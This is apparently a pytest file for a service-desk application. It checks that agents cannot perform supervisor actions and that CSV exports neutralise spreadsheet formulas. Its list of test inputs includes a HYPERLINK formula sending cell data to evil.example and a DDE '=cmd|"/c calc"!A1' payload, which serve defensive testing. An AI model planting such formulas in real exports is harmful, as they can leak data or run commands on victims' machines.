"""An agent reaches for a supervisor's hand; a customer writes a formula for the supervisor's spreadsheet."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from service_desk.actions import admin
from service_desk.background.figures import fold
from service_desk.domain.csv_text import csv_text, harmless
from service_desk.lease import take
from service_desk.queries.live import events_after
from service_desk.storage import schema
from tests.e2e.console import console
from tests.e2e.world import add_agent, until
from tests.e2e.world import world as whole
from tests.service_desk.web.world import CONFIG, World

WHY = {"reason": "because I want to"}


async def test_an_agent_directs_nobody_and_learns_nothing(world: World) -> None:
    eve, ada = await world.person("eve"), await world.person("ada")
    await world.ready(ada)
    call = await world.served(ada, await world.call())
    row, agent = await world.row(schema.interaction, call), await world.row(schema.agent, ada.agent_id)
    version = row["version"]
    tries = [
        await eve.post(f"/api/v1/interactions/{call}/move", {"queue_id": "sales", **WHY}, version=version),
        await eve.post(
            f"/api/v1/interactions/{call}/assign", {"agent_id": eve.agent_id, **WHY}, version=version
        ),
        await eve.post(
            f"/api/v1/interactions/{call}/prioritise", {"head_start_min": 60, **WHY}, version=version
        ),
        await eve.post(
            f"/api/v1/agents/{ada.agent_id}/state", {"state": "signed_out", **WHY}, version=agent["version"]
        ),
        await eve.post(
            f"/api/v1/agents/{eve.agent_id}/state", {"state": "ready", **WHY}, version=agent["version"]
        ),
        *[
            await eve.get(path)
            for path in (
                "/api/v1/floor",
                "/api/v1/figures/waiting/contacts",
                "/api/v1/intervals",
                "/api/v1/intervals.csv",
                "/api/v1/alerts",
                "/api/v1/alerts/now",
            )
        ],
    ]
    assert [answer.status for answer in tries] == [403] * len(tries)
    assert await world.row(schema.interaction, call) == row
    assert await world.row(schema.agent, ada.agent_id) == agent


async def test_an_agent_s_socket_is_sent_neither_the_floor_nor_the_alerts(
    sqlite_url: str, tmp_path: Path
) -> None:
    async with whole(sqlite_url, tmp_path) as desk:
        await add_agent(desk, "eve")
        async with console(desk, "eve") as eve:
            heard: list[str] = []
            eve.io.on("*", lambda event, *_: heard.append(event))
            assert await eve.io.call("watch_floor", {}) == {"error": "forbidden"}
            board = await eve.io.call("watch_board", {})
            assert "queues" in board
            assert "contacts" not in board
            await desk.call("+14155550100")

            async def pushed() -> bool:
                return "board" in heard

            await until(pushed, "a board")
            assert {"floor", "alerts"}.isdisjoint(heard)


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+41555",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_runs_as_a_formula(text: str) -> None:
    made = csv_text(["head"], [[text]], bom=False)
    _, row = csv.reader(io.StringIO(made, newline=""))
    assert row[0].startswith("'")
    assert row[0][1:] == text


@pytest.mark.parametrize("cell", ["Service", "a=b", "Ümlaut", "", 5, -5, 1.5, None])
def test_what_is_harmless_stays_as_it_is(cell: Any) -> None:
    assert harmless(cell) == cell


async def test_a_queue_with_a_formula_for_a_name_is_exported_as_text(quick_world: World) -> None:
    world = quick_world
    sue = await world.person("sue", "supervisor")
    queues = [{**queue, "name": '=cmd|"/c calc"!A1'} for queue in CONFIG["queues"]]
    await world.desk.run(admin.publish_config, {**CONFIG, "queues": queues})
    await world.call()
    fence = await world.desk.run(take, "figures", "nod_test")
    await world.desk.run(fold, await world.desk.read(events_after, 0, 1_000), "figures", fence)
    text = (await sue.get("/api/v1/intervals.csv")).body.decode()
    names = {row["queue"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert names == {'\'=cmd|"/c calc"!A1'}
    assert not re.search(r"(^|,)\"?=", text, re.MULTILINE)
